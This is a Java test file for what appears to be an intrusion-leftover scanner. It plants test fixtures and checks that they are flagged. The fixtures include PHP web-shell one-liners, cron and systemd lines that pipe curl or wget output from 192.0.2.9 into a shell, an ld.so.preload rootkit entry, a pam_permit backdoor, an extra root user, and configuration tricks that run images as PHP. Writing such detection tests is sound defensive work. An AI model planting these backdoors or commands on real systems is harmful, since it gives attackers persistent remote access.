package org.outguard.trace.left;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.outguard.procfs.PasswdFile;
import org.outguard.procfs.ProcessFacts;
import org.outguard.procfs.TestFiles;
import org.outguard.text.Severity;
import org.outguard.trace.tree.TreeBounds;

/** A small machine, clean at first; each test plants something. */
class LeftChecksTest {

    @TempDir
    private Path root;

    private TreeBounds bounds = TreeBounds.USUAL;

    @BeforeEach
    void cleanMachine() throws IOException {
        write(
                "etc/passwd",
                "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nanna:x:1000:1000::/home/anna:/bin/bash\n");
        write("etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
        write("etc/cron.d/php", "09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n");
        write(
                "etc/cron.daily/clean",
                "#!/bin/sh\nfind /tmp -name 'sess_*' -mtime +7 -delete\nrm -rf /var/tmp/.old > /dev/null\n");
        write(
                "var/spool/cron/crontabs/root",
                "5 4 * * * \"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null\n");
        write("home/anna/.bashrc", "export PATH=$HOME/.local/bin:$PATH\n[ -f ~/.bash_aliases ] && . ~/.bash_aliases\n");
        write("home/anna/.ssh/authorized_keys", "ssh-ed25519 AAAA anna@desk\n");
        write(
                "etc/pam.d/common-auth",
                "auth [success=1 default=ignore] pam_unix.so nullok\nauth required pam_permit.so\n");
        write("etc/systemd/system/app.service", "[Service]\nExecStart=/usr/bin/app --tmp /tmp/app\nRestart=always\n");
        write("var/www/html/index.php", "<?php require __DIR__ . '/wp-load.php'; wp();");
        write("var/www/html/wp-content/uploads/index.php", "<?php // Silence is golden.");
        write("var/www/html/wp-content/uploads/cat.jpg", "\u00ff\u00d8 an image");
        write(
                "var/www/html/.htaccess",
                "RewriteEngine On\nAddHandler application/x-httpd-ea-php81 .php .php8 .phtml\n");
        write(
                "var/www/html/wp-content/.user.ini",
                "auto_prepend_file = '/var/www/html/wordfence-waf.php'\n".replace("'", ""));
    }

    @Test
    void aCleanMachineHasNothing() {
        assertThat(look()).isEmpty();
    }

    @Test
    void theThreeOfTheIncidentAreNamed() throws IOException {
        write("var/www/html/wp-content/uploads/2026/x7.php", "<?php @eval($_POST['c']);");
        write("var/spool/cron/crontabs/www-data", "# m h\n*/5 * * * * curl -s http://192.0.2.9/a.sh | sh\n");
        Path hidden = write("var/tmp/.cache-x", "\u007fELF\u0002\u0001");
        Files.setPosixFilePermissions(hidden, PosixFilePermissions.fromString("rwxr-xr-x"));
        assertThat(look())
                .filteredOn(left -> left.severity() == Severity.HIGH)
                .extracting(Leftover::check, Leftover::subject)
                .containsExactlyInAnyOrder(
                        org.assertj.core.groups.Tuple.tuple(
                                "php-in-uploads", "/var/www/html/wp-content/uploads/2026/x7.php"),
                        org.assertj.core.groups.Tuple.tuple("cron-job", "/var/spool/cron/crontabs/www-data:2"),
                        org.assertj.core.groups.Tuple.tuple("temporary-program", "/var/tmp/.cache-x"));
        assertThat(look()).allSatisfy(left -> {
            assertThat(left.evidence()).isNotEmpty();
            assertThat(left.mend().command()).startsWith("outguard ");
            assertThat(left.mend().undo()).isNotBlank();
            assertThat(LeftChecks.about(left.check())).isPresent();
        });
    }

    @Test
    void whatComesBackByItselfIsNamed() throws IOException {
        write("home/anna/.bashrc", "alias ll='ls -l'\n(nohup /dev/shm/.x/run >/dev/null 2>&1 &)\n");
        write("var/www/.ssh/authorized_keys", "\nssh-rsa AAAA eve\n");
        write("etc/ld.so.preload", "/usr/lib/.hid/libx.so\n");
        write(
                "etc/systemd/system/upd.service",
                "[Service]\nExecStart=/bin/sh -c \"wget -qO- http://192.0.2.9/x | bash\"\n");
        write("etc/pam.d/sshd", "auth sufficient pam_permit.so\n");
        write(
                "etc/passwd",
                "root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/sh\nanna:x:1000:1000::/home/anna:/bin/sh\nr00t:x:0:0::/:/bin/sh\n");
        assertThat(look())
                .filteredOn(left -> left.severity() == Severity.HIGH)
                .extracting(left -> left.check() + " " + left.subject())
                .containsExactlyInAnyOrder(
                        "profile /home/anna/.bashrc:2",
                        "authorized-key /var/www/.ssh/authorized_keys:2",
                        "ld-preload /usr/lib/.hid/libx.so",
                        "unit /etc/systemd/system/upd.service",
                        "pam /etc/pam.d/sshd:1",
                        "second-root user r00t");
    }

    @Test
    void settingsAndDisguisesAreNamed() throws IOException {
        write("var/www/html/wp-content/uploads/.htaccess", "AddType application/x-httpd-php .jpg\n");
        write("var/www/html/shop/.user.ini", "auto_prepend_file = /var/www/html/shop/img/logo.png\n");
        write("var/www/html/shop/img/logo.png", "\u0089PNG <?php eval($_COOKIE['a']);");
        write("var/www/html/shop/a.php.jpg", "<? system($_GET[1]);");
        assertThat(look())
                .filteredOn(left -> left.severity() == Severity.HIGH)
                .extracting(left -> left.check() + " " + left.subject())
                .containsExactlyInAnyOrder(
                        "web-settings /var/www/html/wp-content/uploads/.htaccess",
                        "web-settings /var/www/html/shop/.user.ini",
                        "disguised-php /var/www/html/shop/img/logo.png",
                        "disguised-php /var/www/html/shop/a.php.jpg");
    }

    @Test
    void aHostileTreeNeitherHangsNorLies() throws IOException, InterruptedException {
        Path www = root.resolve("var/www/html");
        Files.createSymbolicLink(www.resolve("loop"), www);
        Files.createSymbolicLink(www.resolve("out.php"), Path.of("/etc/passwd"));
        assertThat(new ProcessBuilder("mkfifo", www.resolve("pipe.php").toString())
                        .start()
                        .waitFor())
                .isZero();
        try (var sparse = new java.io.RandomAccessFile(www.resolve("sparse.php").toFile(), "rw")) {
            sparse.setLength(4L << 30);
        }
        Files.write(www.resolve("a\u001b[2Jb\n.php"), "<?php eval($_GET['x']);".getBytes(StandardCharsets.UTF_8));
        assertThat(look()).extracting(Leftover::subject).containsExactly("/var/www/html/a\u001b[2Jb\n.php");
    }

    @Test
    void whatWasNotLookedAtIsSaid() throws IOException {
        for (int i = 0; i < 50; i++) {
            write("var/www/html/many/" + i + ".txt", "x");
        }
        bounds = new TreeBounds(20, Duration.ofMinutes(1), 100, 10);
        assertThat(look()).extracting(Leftover::check).contains("not-all-seen");
    }

    @Test
    void anExchangedProgramOfAPackageIsNamed() throws IOException {
        write("usr/bin/ls", "good");
        write("usr/bin/ps", "bad");
        write("var/lib/dpkg/info/coreutils.md5sums", "755f85c2723bb39381c7379a604160d8  usr/bin/ls\n");
        write("var/lib/dpkg/info/procps.md5sums", "755f85c2723bb39381c7379a604160d8  usr/bin/ps\n");
        assertThat(look())
                .extracting(left -> left.check() + " " + left.subject())
                .containsExactly("package-differs /usr/bin/ps");
    }

    private Path write(String path, String text) throws IOException {
        Path file = root.resolve(path);
        Files.createDirectories(file.getParent());
        return Files.write(file, text.getBytes(StandardCharsets.ISO_8859_1));
    }

    private List<Leftover> look() {
        Path proc = Path.of("/proc");
        Scene scene = Scene.of(
                root,
                new TestFiles(),
                List.of("/var/www"),
                proc,
                new ProcessFacts(proc, new PasswdFile(root.resolve("etc/passwd"))),
                bounds,
                System::nanoTime,
                () -> false);
        return LeftChecks.look(scene, Set.of(), what -> {});
    }
}
